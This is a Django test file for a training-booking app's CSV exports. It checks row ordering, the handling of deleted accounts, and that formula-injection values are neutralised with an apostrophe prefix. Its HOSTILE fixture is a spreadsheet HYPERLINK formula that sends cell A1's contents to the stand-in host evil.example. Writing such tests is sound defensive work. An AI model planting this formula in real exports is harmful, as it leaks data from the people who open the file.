"""CSV of a session's bookings, and of the non-attendance report: formula-safe."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from training.choices import Attendance, BookingStatus
from training.models import Booking
from training.tests.session_factories import make_person, make_session

from . import confirm, trainer_user, wait

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"Click me")'


@pytest.fixture
def signed_in(client):
    client.force_login(trainer_user())
    return client


def rows_of(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))


def test_bookings_csv_lists_places_then_waiting_list_then_cancelled(signed_in):
    session = make_session()
    now = timezone.now()
    first = confirm(
        session,
        make_person("police", display_name="Ana Police", email="ana@example.org"),
        access_needs="Wheelchair user",
    )
    Booking.objects.filter(pk=first.pk).update(attendance=Attendance.ATTENDED)
    confirm(session, make_person("health", display_name=HOSTILE, email="hostile@example.org"))
    wait(session, make_person("education", display_name="Second in queue"), at=now - timedelta(minutes=5))
    wait(session, make_person("police", display_name="First in queue"), at=now - timedelta(minutes=10))
    gone = wait(session, make_person("housing", display_name="Changed their mind"))
    Booking.objects.filter(pk=gone.pk).update(status=BookingStatus.CANCELLED, cancelled_at=now)

    response = signed_in.get(reverse("training_sessions:export", args=[session.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == f'attachment; filename="session-{session.pk}-bookings.csv"'
    rows = rows_of(response)
    assert rows[0] == [
        "Name",
        "Email",
        "Agency",
        "Status",
        "Booked at",
        "Attendance",
        "Waiting list position",
    ]
    body = [[row[0], row[1], row[2], row[3], row[5], row[6]] for row in rows[1:]]
    assert body == [
        ["Ana Police", "ana@example.org", "Police", "Confirmed", "Attended", ""],
        ["'" + HOSTILE, "hostile@example.org", "Health", "Confirmed", "Not marked", ""],
        ["First in queue", rows[3][1], "Police", "On the waiting list", "Not marked", "1"],
        ["Second in queue", rows[4][1], "Education", "On the waiting list", "Not marked", "2"],
        ["Changed their mind", rows[5][1], "Housing", "Cancelled", "Not marked", ""],
    ]
    booked_at = timezone.localtime(first.created_at).strftime("%Y-%m-%d %H:%M")
    assert rows[1][4] == booked_at
    assert "Wheelchair user" not in response.content.decode()  # access needs stay on the bookings page


@pytest.mark.parametrize("typed", ["=1+2", "+44 7700", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_trigger_is_neutralised(signed_in, typed):
    session = make_session()
    confirm(session, make_person("police", display_name=typed))
    [_heading, row] = rows_of(signed_in.get(reverse("training_sessions:export", args=[session.pk])))
    assert row[0] == "'" + typed


def test_a_deleted_account_keeps_its_row_without_a_name(signed_in):
    session = make_session()
    booking = confirm(session, agency="police")
    Booking.objects.filter(pk=booking.pk).update(user=None)
    [_heading, row] = rows_of(signed_in.get(reverse("training_sessions:export", args=[session.pk])))
    assert row[:4] == ["Deleted account", "", "Police", "Confirmed"]


def test_non_attendance_report_downloads_as_csv(signed_in):
    session = make_session(starts_in=timedelta(days=-3), opened_ago=timedelta(days=10))
    for agency, mark in (("police", Attendance.ABSENT), ("police", Attendance.LATE_CANCELLATION)):
        booking = confirm(session, agency=agency)
        Booking.objects.filter(pk=booking.pk).update(attendance=mark)
    response = signed_in.get(reverse("training_sessions:non_attendance"), {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="non-attendance.csv"'
    assert rows_of(response) == [
        ["Agency", "Absent", "Late cancellations", "Total", "Sessions"],
        ["Police", "1", "1", "2", "1"],
    ]
